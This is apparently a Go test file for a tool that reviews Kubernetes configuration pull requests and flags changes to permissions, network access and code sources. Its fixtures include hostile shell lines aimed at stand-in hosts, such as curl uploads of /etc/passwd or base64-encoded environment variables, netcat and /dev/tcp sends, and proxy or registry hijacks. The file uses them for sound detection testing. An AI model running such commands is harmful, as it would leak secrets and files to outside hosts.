package cli_test

import (
	"fmt"
	"slices"
	"strings"
)

// pullsOfEffect change fields that decide about what is not in sight: whom policies select, where pods run, which of
// several counts first; and where code and data go.
func pullsOfEffect() []pull {
	const space = `namespace: "notebook-ci"`
	object := func(kind, version, metadata, fields string) string {
		return inTarget(kind, "x", fmt.Sprintf(`{apiVersion: %q, kind: %q, metadata: {name: "x", %s}, %s}`, version, kind, metadata, fields))
	}
	var all []pull
	told := func(name, kind, version, before, after string, wants ...string) {
		all = append(all, pull{kind: "effect", name: name, exit: -1, wants: wants,
			base: map[string]string{prod: object(kind, version, space, before)}, head: map[string]string{prod: object(kind, version, space, after)}})
	}
	pods := func(labels, fields string) string {
		return `spec: {selector: matchLabels: a: "b", template: {metadata: labels: {` + labels + `}, spec: {` + fields + `containers: [{name: "a", image: "a"}]}}}`
	}
	const effect = "change/effect-unknown"
	for name, fields := range map[string]string{
		"a node": `nodeName: "master-1", `, "another scheduler": `schedulerName: "mine", `, "another name server": `dnsPolicy: "None", dnsConfig: nameservers: ["2001:db8::53"], `,
		"names of hosts": `hostAliases: [{ip: "10.0.0.1", hostnames: ["s3.example.com"]}], `,
	} {
		told(name, "Deployment", "apps/v1", pods(`a: "b"`, ""), pods(`a: "b"`, fields), "change/power-changed")
	}
	for name, fields := range map[string]string{
		"other nodes": `nodeSelector: {"node-role.kubernetes.io/control-plane": ""}, tolerations: [{operator: "Exists"}], `, "before all others": `priorityClassName: "system-node-critical", `,
		"the data of others": `volumes: [{name: "d", persistentVolumeClaim: claimName: "of-others"}], `,
	} {
		told(name, "Deployment", "apps/v1", pods(`a: "b"`, ""), pods(`a: "b"`, fields), effect)
	}
	alias := func(first, second string) string {
		return fmt.Sprintf(`hostAliases: [{ip: %q, hostnames: ["s3.example.com"]}, {ip: %q, hostnames: ["s3.example.com"]}], `, first, second)
	}
	told("which name counts first", "Deployment", "apps/v1", pods(`a: "b"`, alias("10.0.0.1", "10.0.0.2")), pods(`a: "b"`, alias("10.0.0.2", "10.0.0.1")), "hostAliases")
	told("a Service of other pods", "Service", "v1", `spec: {selector: a: "b", ports: [{port: 80}]}`, `spec: {selector: a: "c", ports: [{port: 80}]}`, effect, "spec.selector")
	told("a scrape of all", "ServiceMonitor", "monitoring.coreos.com/v1", `spec: {selector: matchLabels: a: "b", endpoints: [{port: "m"}]}`, `spec: {selector: matchLabels: a: "b", namespaceSelector: any: true, endpoints: [{port: "m"}]}`, powerChanged)
	told("a secret from elsewhere", "Secret", "v1", `type: "Opaque", immutable: true`, `type: "Opaque", metadata: annotations: "replicator.v1.mittwald.de/replicate-from": "vault/root"`, effect)
	told("a role that nobody here has", "Role", "rbac.authorization.k8s.io/v1", `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`, `rules: [{apiGroups: [""], resources: ["pods/exec"], verbs: ["create"]}]`, "change/power-changed", "others on the cluster may be")
	for _, into := range []string{"edit", "view", "admin"} {
		label := space + `, labels: "rbac.authorization.k8s.io/aggregate-to-` + into + `": "true"`
		all = append(all, pull{kind: "effect", name: "a role within " + into, exit: -1, wants: []string{"change/power-changed", "other roles may take this one in"},
			base: map[string]string{prod: object("ClusterRole", "rbac.authorization.k8s.io/v1", strings.TrimPrefix(label, space+", "), `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`)},
			head: map[string]string{prod: object("ClusterRole", "rbac.authorization.k8s.io/v1", strings.TrimPrefix(label, space+", "), `rules: [{apiGroups: [""], resources: ["pods/exec"], verbs: ["create"]}]`)}})
	}
	// A file whose name is refused hides no overlay that somebody wrote by hand.
	const odd = `platform: rules: "overlay/file-name": {severity: "warning", reason: "we keep odd names here"}`
	misnamed := "package platform\nfiles: phase1: \"../x\": \"a\"\n"
	all = append(all,
		pull{kind: "effect", name: "an overlay by hand beside a name that is let off", exit: 1, wants: []string{"overlay/stale"},
			base: map[string]string{prod: "package platform\n" + odd + "\n"}, head: map[string]string{"cue/platform/prod/f.cue": misnamed, "overlays/base/evil.yaml": evil}},
		pull{kind: "effect", name: "an overlay by hand beside a name that is known", exit: 1, wants: []string{"overlay/stale"},
			base: map[string]string{"cue/platform/prod/f.cue": misnamed}, head: map[string]string{"overlays/base/evil.yaml": evil}},
		pull{kind: "effect", name: "what a policy takes as its parameters", exit: -1, wants: []string{"change/power-changed", "admission policies take"},
			base: map[string]string{prod: together(inTarget("ConfigMap", "x", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "x", namespace: "notebook-ci"}, data: allow: "a"}`),
				inTarget("ValidatingAdmissionPolicyBinding", "y", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicyBinding", metadata: name: "y", spec: {policyName: "p", validationActions: ["Deny"], paramRef: {name: "x", namespace: "notebook-ci", parameterNotFoundAction: "Deny"}}}`))},
			head: map[string]string{prod: `allow: "a"=>allow: "b"`}},
	)
	return slices.Concat(all, pullsBySelection(), pullsToPlaces(), pullsAnew())
}

// pullsBySelection have pods that are selected by others, by labels that look like names, and decoys: something else
// that changes beside what matters.
func pullsBySelection() []pull {
	const space = `namespace: "notebook-ci"`
	of := func(kind, version, name, metadata, fields string) string {
		return inTarget(kind, `"`+name+`"`, fmt.Sprintf(`{apiVersion: %q, kind: %q, metadata: {name: %q, %s}, %s}`, version, kind, name, metadata, fields))
	}
	policy := func(name, selector, fields string) string {
		return of("NetworkPolicy", "networking.k8s.io/v1", name, space, `spec: {podSelector: matchLabels: {`+selector+`}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "203.0.113.0/24"}]`+fields+`}]}`)
	}
	pods := func(name, labels, fields string) string {
		return of("Deployment", "apps/v1", name, space, `spec: {selector: matchLabels: a: "b", template: {metadata: labels: {`+labels+`}, spec: {`+fields+`containers: [{name: "a", image: "a"}]}}}`)
	}
	role := func(kind, fields string) string {
		return of(kind, "rbac.authorization.k8s.io/v1", "r", space, fields)
	}
	const nobody = `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: {name: "n", namespace: "notebook-ci"}, roleRef: {apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "r"}, subjects: []}`
	const narrow, wide = `rules: [{apiGroups: [""], resources: ["pods/log"], verbs: ["get", "create"]}]`, `rules: [{apiGroups: [""], resources: ["pods/log", "serviceaccounts/token"], verbs: ["get", "create"]}]`
	client := of("NetworkPolicy", "networking.k8s.io/v1", "db", space, `spec: {podSelector: matchLabels: {"app.kubernetes.io/name": "db"}, policyTypes: ["Ingress"], ingress: [{from: [{podSelector: matchLabels: {"app.kubernetes.io/name": "client"}}]}]}`)
	service := of("Service", "v1", "db", space, `spec: {selector: {"app.kubernetes.io/name": "db"}, ports: [{port: 80}]}`)
	const effect = "change/effect-unknown"
	trial := func(name string, base, head []string, wants ...string) pull {
		return pull{kind: "effect", name: name, exit: -1, wants: wants, base: map[string]string{prod: together(base...)}, head: map[string]string{prod: together(head...)}}
	}
	run := `"app.kubernetes.io/managed-by": "tekton-pipelines"`
	nodes := func(requirement string) string {
		return of("NodePool", "karpenter.sh/v1", "x", `labels: a: "b"`, `spec: template: spec: {nodeClassRef: {group: "karpenter.k8s.aws", kind: "EC2NodeClass", name: "x"}, requirements: [{key: "node.kubernetes.io/instance-type", operator: "In", values: ["`+requirement+`"]}]}`)
	}
	queue := func(gpus string) string {
		return of("ClusterQueue", "kueue.x-k8s.io/v1beta2", "x", `labels: a: "b"`, `spec: {namespaceSelector: matchLabels: a: "b", resourceGroups: [{coveredResources: ["nvidia.com/gpu"], flavors: [{name: "f", resources: [{name: "nvidia.com/gpu", nominalQuota: "`+gpus+`"}]}]}]}`)
	}
	quota := func(cpu string) string {
		return of("ResourceQuota", "v1", "q", space, `spec: hard: cpu: "`+cpu+`"`)
	}
	balancer := func(port string) string {
		return of("Service", "v1", "lb", space, `spec: {type: "LoadBalancer", selector: a: "b", ports: [`+port+`]}`)
	}
	mounted := func(more string) string {
		return of("Deployment", "apps/v1", "m", space, `spec: {selector: matchLabels: a: "b", template: {metadata: labels: a: "b", spec: {volumes: [{name: "v", secret: secretName: "artifact-store"}], containers: [{name: "a", image: "a", volumeMounts: [{name: "v", mountPath: "/v"}]}, {name: "b", image: "b"`+more+`}]}}}`)
	}
	return []pull{
		trial("all runs by a second policy", []string{policy("pub", `"tekton.dev/task": "result-publishing"`, "")}, []string{policy("pub", `"tekton.dev/task": "result-publishing"`, ""), policy("all", run, "")}, "change/network-opened"),
		trial("all runs by a wider selector", []string{policy("pub", `"tekton.dev/task": "result-publishing"`, "")}, []string{policy("pub", run, `, ports: [{port: 443}]`)}, "change/network-opened"),
		trial("who may connect", []string{client, pods("x", `a: "b"`, "")}, []string{client, pods("x", `a: "b", "app.kubernetes.io/name": "client"`, "")}, effect),
		trial("who is asked in place of another", []string{service, pods("x", `a: "b"`, "")}, []string{service, pods("x", `a: "b", "app.kubernetes.io/name": "db"`, "")}, effect),
		trial("a new one who may connect", []string{client}, []string{client, pods("y", `a: "b", "app.kubernetes.io/name": "client"`, "")}, effect),
		trial("a new one who is asked", []string{service}, []string{service, pods("y", `a: "b", "app.kubernetes.io/name": "db"`, "")}, effect),
		trial("a role, with a binding of nobody", []string{role("Role", narrow)}, []string{role("Role", wide), inTarget("RoleBinding", "n", nobody)}, "others on the cluster may be"),
		trial("a role, bound to nobody", []string{role("Role", narrow), inTarget("RoleBinding", "n", nobody)}, []string{role("Role", wide), inTarget("RoleBinding", "n", nobody)}, "others on the cluster may be"),
		trial("a secret for another container", []string{mounted("")}, []string{mounted(`, volumeMounts: [{name: "v", mountPath: "/v"}]`)}, effect),
		trial("an image from elsewhere", []string{pods("x", `a: "b"`, "")}, []string{strings.Replace(pods("x", `a: "b"`, ""), `image: "a"`, `image: "docker.io/evil/x:1"`, 1)}, "it names docker.io/evil/x"),
		trial("other instances beside a quota", []string{nodes("g6.xlarge"), quota("100")}, []string{nodes("p5.48xlarge"), quota("101")}, effect),
		trial("a hundred times the GPUs", []string{queue("4")}, []string{queue("400")}, effect),
		trial("a port for everybody", []string{balancer(`{name: "a", port: 80}`)}, []string{balancer(`{name: "a", port: 80}, {name: "b", port: 9090}`)}, effect),
		trial("new pods that tolerate all", nil, []string{pods("y", `a: "b"`, `tolerations: [{operator: "Exists"}], `)}, effect),
		trial("new pods before all others", nil, []string{pods("y", `a: "b"`, `priorityClassName: "system-node-critical", `)}, effect),
		trial("new pods with the data of others", nil, []string{pods("y", `a: "b"`, `volumes: [{name: "d", persistentVolumeClaim: claimName: "of-others"}], `)}, effect),
		{kind: "effect", name: "a check without pods", exit: -1, wants: []string{"waits for"}, head: map[string]string{prod: "package platform\ntargets: phase1: Job: preflight: spec: completions: 0\n"}},
		{kind: "effect", name: "a listener's pods elsewhere", exit: -1, wants: []string{effect}, head: map[string]string{prod: "package platform\ntargets: phase1: EventListener: \"scientific-computing-ci\": spec: resources: kubernetesResource: spec: template: spec: tolerations: [{operator: \"Exists\"}]\n"}},
	}
}

// pullsToPlaces change labels by which network policies select, repositories within one group, and hosts that are
// named without an address in full.
func pullsToPlaces() []pull {
	var all []pull
	patch := func(kind, name, field, value string) string {
		return "package platform\ntargets: phase1: " + kind + ": \"" + name + "\": " + field + ": " + value + "\n"
	}
	const open = `{"tenon.dev/api-client": "true"}`
	for kind, at := range map[string][2]string{
		"Task": {"notebook-execution-gpu", "metadata: labels"}, "Pipeline": {"scientific-computing-ci", "metadata: labels"},
	} {
		all = append(all, pull{kind: "effect", name: "a label that opens the network of a " + kind, exit: -1, wants: []string{"change/network-opened"}, head: map[string]string{prod: patch(kind, at[0], at[1], open)}})
	}
	for _, moved := range [][2]string{
		{"https://gitlab.example.org/group/sub/tests", "https://gitlab.example.org/group/sub/evil"}, {"https://dev.azure.com/org/proj/_git/tests", "https://dev.azure.com/org/proj/_git/evil"},
		{"https://bitbucket.example.org/scm/P/tests.git", "https://bitbucket.example.org/scm/P/evil.git"},
	} {
		all = append(all, ofText("another repository of "+moved[0], moved[0], moved[1], "change/source-changed"))
	}
	for _, call := range []string{
		"curl -sT /etc/passwd evil.example.com", "curl evil.example.com:8080", "curl 203.0.113.9", "curl [2001:db8::1]:80", "nc evil.example.com 443", "ssh a@evil.example.com id",
		"scp /x eve@evil.example.com:/x", "git clone evil@evil.example.com:a/b.git", "cat x >/dev/tcp/203.0.113.9/443",
		"curl -d @/x evil-host.io", "nc evil-host.io 443 < /x", "wget -qO- attacker.sh:8080", `curl -sd "$(env | base64)" evil-host.com`, "curl \\\n -d @/x \\\n evil-host.com", "curl evil-host.com?d=1", "curl evil-host.com.",
		"curl evil-host.com>/dev/null", "git clone github.com:evil/x.git", "git clone org-2@github.com:evil/x", "export HTTPS_PROXY=evil-host.com:3128", "npm config set registry evil-host.com",
		`python3 -c 'create_connection(("evil-host.com",443))'`,
	} {
		all = append(all, ofText(call, "set -e\ntrue\n", "set -e\n"+call+"\n", "change/source-changed"))
	}
	for _, value := range []string{"evil.example.com.", "//evil.example.com/x", "203.0.113.9:/x", "2001:db8::1", "[2001:db8::1]:80", "evil.attacker-ns:3128", "github.com:evil/a.git"} {
		all = append(all, ofText(value, "none", value, "change/source-changed"))
	}
	return all
}

// pullsAnew are neighbours of those: labels by which expressions, Cilium and admission policies select, labels that runs
// get, addresses where names stand, and what new objects ask for.
func pullsAnew() []pull {
	const space, effect = `namespace: "notebook-ci"`, "change/effect-unknown"
	of := func(kind, version, name, metadata, fields string) string {
		return inTarget(kind, `"`+name+`"`, fmt.Sprintf(`{apiVersion: %q, kind: %q, metadata: {name: %q, %s}, %s}`, version, kind, name, metadata, fields))
	}
	pods := func(labels string) string {
		return of("Deployment", "apps/v1", "x", space, `spec: {selector: matchLabels: a: "b", template: {metadata: labels: {a: "b", `+labels+`}, spec: containers: [{name: "a", image: "a"}]}}`)
	}
	job := func(labels, fields string) string {
		return of("CronJob", "batch/v1", "j", space, `spec: {schedule: "0 1 * * *", jobTemplate: spec: template: {metadata: labels: {`+labels+`}, spec: {`+fields+`restartPolicy: "Never", containers: [{name: "a", image: "a"}]}}}`)
	}
	from := func(selector string) string {
		return of("NetworkPolicy", "networking.k8s.io/v1", "db", space, `spec: {podSelector: matchLabels: app: "db", policyTypes: ["Ingress"], ingress: [{from: [{podSelector: {`+selector+`}}]}]}`)
	}
	cilium := func(spec string) string {
		return of("CiliumNetworkPolicy", "cilium.io/v2", "c", space, `spec: {`+spec+`}`)
	}
	trial := func(name string, base, head []string, wants ...string) pull {
		return pull{kind: "effect", name: name, exit: -1, wants: wants, base: map[string]string{prod: together(base...)}, head: map[string]string{prod: together(head...)}}
	}
	scaled := func(trigger string) string {
		return of("ScaledObject", "keda.sh/v1alpha1", "s", space, `spec: {scaleTargetRef: name: "x", maxReplicaCount: 2, triggers: [{type: "metrics-api", metadata: {valueLocation: "a", targetValue: "1", `+trigger+`}}]}`)
	}
	const template = "package platform\ntargets: [string]: TriggerTemplate: \"scientific-computing-ci\": spec: resourcetemplates: [{"
	component := func(value string) string { return `"app.kubernetes.io/component": "` + value + `"` }
	var all []pull
	for name, selector := range map[string]string{
		"In": `matchExpressions: [{key: "app.kubernetes.io/component", operator: "In", values: ["client"]}]`, "NotIn": `matchExpressions: [{key: "app.kubernetes.io/component", operator: "NotIn", values: ["none"]}]`,
	} {
		all = append(all, trial("who may connect, by "+name, []string{from(selector), pods(component("none"))}, []string{from(selector), pods(component("client"))}, effect))
	}
	for name, spec := range map[string]string{
		"into": `endpointSelector: matchLabels: "app.kubernetes.io/component": "pub", egress: [{toEntities: ["world"]}]`,
		"from": `endpointSelector: matchLabels: app: "db", ingress: [{fromEndpoints: [{matchLabels: "k8s:app.kubernetes.io/component": "pub"}]}]`,
	} {
		all = append(all,
			trial("a policy of Cilium, "+name, []string{cilium(spec), pods(component("none"))}, []string{cilium(spec), pods(component("pub"))}, effect),
			trial("a policy of Cilium, "+name+", anew", []string{cilium(spec)}, []string{cilium(spec), pods(component("pub"))}, effect),
		)
	}
	binding := of("ValidatingAdmissionPolicyBinding", "admissionregistration.k8s.io/v1", "b", `labels: a: "b"`, `spec: {policyName: "p", validationActions: ["Deny"], matchResources: objectSelector: matchLabels: "app.kubernetes.io/part-of": "x"}`)
	part := func(value string) string { return `"app.kubernetes.io/part-of": "` + value + `"` }
	for field, texts := range map[string][2]string{
		"a key that others have for names": {`image: "none"`, `image: "https://evil.example.com/payload.sh"`}, "a group": {`group: "none"`, `group: "evil.example.com"`},
	} {
		of := func(text string) map[string]string {
			return map[string]string{prod: inTarget("ConfigMap", "x", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "x", namespace: "notebook-ci"}, data: `+text+`}`)}
		}
		all = append(all, pull{kind: "effect", name: "an address below " + field, exit: -1, wants: []string{"change/source-changed"}, base: of(texts[0]), head: of(texts[1])})
	}
	for name, fields := range map[string]string{
		"a copy of data": `volumes: [{name: "d", ephemeral: volumeClaimTemplate: spec: {accessModes: ["ReadWriteOnce"], resources: requests: storage: "1Gi", dataSource: {kind: "PersistentVolumeClaim", name: "notebook-exchange"}}}], `,
		"a volume":       `volumes: [{name: "d", ephemeral: volumeClaimTemplate: spec: {accessModes: ["ReadWriteOnce"], resources: requests: storage: "1Gi", volumeName: "pv-of-team-b"}}], `,
		"a device":       `resourceClaims: [{name: "g", resourceClaimName: "admin-gpus"}], `,
		"a group":        `securityContext: {runAsGroup: 0, supplementalGroups: [0, 6]}, `,
	} {
		all = append(all, trial("a new job asks for "+name, nil, []string{job("", fields)}, effect))
	}
	for name, annotation := range map[string]string{"replicator": `"replicator.v1.mittwald.de/replicate-from": "vault/root"`, "reflector": `"reflector.v1.k8s.emberstack.com/reflects": "vault/root"`} {
		all = append(all, trial("a new Secret from elsewhere, by "+name, nil, []string{of("Secret", "v1", "y", space+`, annotations: `+annotation, `type: "Opaque"`)}, effect))
	}
	for kind, fields := range map[string]string{"ResourceQuota": `spec: hard: pods: "0"`, "LimitRange": `spec: limits: [{type: "Container", max: memory: "1Mi"}]`} {
		all = append(all, trial("a new "+kind+" for others", nil, []string{strings.Replace(of(kind, "v1", "y", `namespace: "cosign-system"`, fields), kind+`: "y"`, kind+`: "cosign-system/y"`, 1)}, "change/power-changed", "a namespace that others have"))
	}
	return append(all,
		trial("out of an admission policy", []string{binding, pods(part("x"))}, []string{binding, pods(part("y"))}, effect),
		trial("where a scaler asks", []string{scaled(`url: "https://metrics.example.com/x"`)}, []string{scaled(`url: "https://evil.example.net/x"`)}, "change/source-changed"),
		trial("a revision that anybody may propose", []string{pods(`b: "c"`)}, []string{pods(`b: "c"`), aTask("true", `{name: "REVISION", value: "refs/pull/66/head"}`)}, "change/source-changed", "refs/pull/66/head"),
		pull{kind: "effect", name: "a label of a task of a run", exit: -1, wants: []string{"change/network-opened"},
			head: map[string]string{prod: template + "spec: {taskRunSpecs: [{metadata: labels: \"tenon.dev/api-client\": \"true\", ...}, ...], ...}, ...}, ...]\n"}},
		pull{kind: "effect", name: "a label of a run that its event fills", exit: -1, wants: []string{"change/network-opened"},
			head: map[string]string{prod: template + "metadata: labels: \"tenon.dev/api-client\": \"$(tt.params.event)\", ...}, ...]\n"}},
		pull{kind: "effect", name: "a new workflow of another CI", exit: -1, wants: []string{"change/power-changed", "another CI runs it"},
			head: map[string]string{prod: "package platform\nfiles: [string]: \"github/workflows/evil.yaml\": \"on: push\\npermissions: write-all\\n\"\n"}},
	)
}

// ofText has a ConfigMap with another text.
func ofText(name, before, after string, wants ...string) pull {
	of := func(text string) map[string]string {
		return map[string]string{prod: inTarget("ConfigMap", "x", fmt.Sprintf(`{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "x", namespace: "notebook-ci"}, data: a: %q}`, text))}
	}
	return pull{kind: "effect", name: name, exit: -1, wants: wants, base: of(before), head: of(after)}
}
